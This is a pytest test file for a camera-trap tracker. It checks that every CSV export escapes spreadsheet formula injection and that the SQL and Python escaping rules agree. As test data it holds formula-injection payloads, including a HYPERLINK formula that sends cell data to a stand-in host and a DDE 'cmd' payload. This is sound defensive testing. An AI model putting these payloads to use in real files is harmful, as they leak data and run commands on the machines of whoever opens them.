"""CSV formula injection: no cell of any exported CSV starts a formula (tracker.exports.csvsafe).

A photo tag `Species|=HYPERLINK(...)`, a comment `@SUM(...)`, a card file named `-2+3.jpg`:
every CSV of every format, public or not, carries them as text behind a single quote, while
numbers such as -12.5 stay numbers. The SQL form of the rule is checked against the Python one on
both databases.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import literal, select

from tracker import fieldwork, ingest, sources
from tracker.exports import csvsafe, formats
from tracker.exports.core import Filters, Options
from tracker.models import Sighting, Station
from tracker.sightings import TagRules
from tracker.synthetic import jpeg_bytes, xmp_packet

NOW = datetime(2024, 5, 21, 3, tzinfo=UTC)
LINK = '=HYPERLINK("http://evil.test/?"&A2,"open")'
CASES = [
    (LINK, "'" + LINK),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("-12.5", "-12.5"),  # numbers stay numbers
    ("+7", "+7"),
    ("43.35", "43.35"),
    ("a=b", "a=b"),  # only the first character matters
    ("", ""),
    ("Amur leopard", "Amur leopard"),
]


@pytest.mark.parametrize(("value", "written"), CASES)
def test_a_cell_never_starts_a_formula(value, written):
    assert csvsafe.cell(value) == written
    assert csvsafe.cell(-3) == -3 and csvsafe.cell(None) is None


def test_sql_writes_the_same_cells(session):
    """The rule the database applies to the large CSVs is the Python one."""
    values = [value for value, _ in CASES] + ["=", "+", "-1e5", "+.5", "-.", "--1", None]
    found = [session.scalar(select(csvsafe.safe_text(literal(v)))) for v in values]
    assert found == [csvsafe.cell(v) for v in values]


def test_lookup_tables_are_checked_once_per_export(session):
    """A clean lookup column is read as it is (no test on each of a million rows); one risky
    value anywhere in it and the whole column goes through safe_text."""
    station = fieldwork.create_station(session, code="KP-01", latitude=43.1, longitude=131.4)
    station.name = "-12.5"  # a number: left as it is
    session.commit()
    assert csvsafe.checked(session, Station.name) is Station.name
    station.name = "=1+1"
    session.commit()
    wrapped = csvsafe.checked(session, Station.name)
    assert isinstance(wrapped, csvsafe.safe_text)
    assert session.scalar(select(wrapped)) == "'=1+1"


@pytest.fixture
def injected(app, session):
    """A photo tagged with a formula for a species, named like a formula, with a comment
    that is one: what a hostile or careless card brings in."""
    station = fieldwork.create_station(session, code="KP-01", latitude=43.1, longitude=131.4)
    deployment = fieldwork.create_deployment(
        session, station, fieldwork.DeploymentInput(start_date=date(2024, 5, 1),
                                                    end_date=date(2024, 5, 11))
    )  # fmt: skip
    session.commit()
    data = jpeg_bytes(datetime(2024, 5, 2, 10, 0), size=(64, 48), seed=1,
                      xmp=xmp_packet([], [f"Species|{LINK}"]))  # fmt: skip
    ingest.ingest(session, [sources.Item("-2+3.jpg", data)], deployment,
                  app.config["MEDIA_DIR"], tag_rules=TagRules())  # fmt: skip
    sighting = session.scalar(select(Sighting))
    sighting.comments = "@SUM(1)"
    session.commit()


def csv_tables(session, fmt: str, public: bool) -> dict[str, list[list[str]]]:
    out = io.BytesIO()
    options = Options(now=NOW, public=public, base_url="https://tracker.example")
    formats.run_export(session, fmt, Filters(), out, options)
    data = out.getvalue()
    if not data.startswith(b"PK"):
        return {fmt: list(csv.reader(io.StringIO(data.decode("utf-8"))))}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"))))
            for name in archive.namelist()
            if name.endswith(".csv")
        }


CSV_FORMATS = [f.name for f in formats.FORMATS if f.media_type.startswith("text/csv")] + [
    "camtrap-dp"
]


@pytest.mark.parametrize("public", [False, True], ids=["team", "public"])
@pytest.mark.parametrize("fmt", CSV_FORMATS)
def test_no_exported_csv_cell_starts_a_formula(session, injected, fmt, public):
    tables = csv_tables(session, fmt, public)
    cells = [cell for rows in tables.values() for row in rows for cell in row]
    assert "'" + LINK in cells  # the species arrives as text
    dangerous = [c for c in cells if c and c[0] in "=+-@\t\r" and not csvsafe.NUMBER.fullmatch(c)]
    assert dangerous == []
    if fmt == "csv" and not public:
        assert "'@SUM(1)" in cells and "'-2+3.jpg" in cells
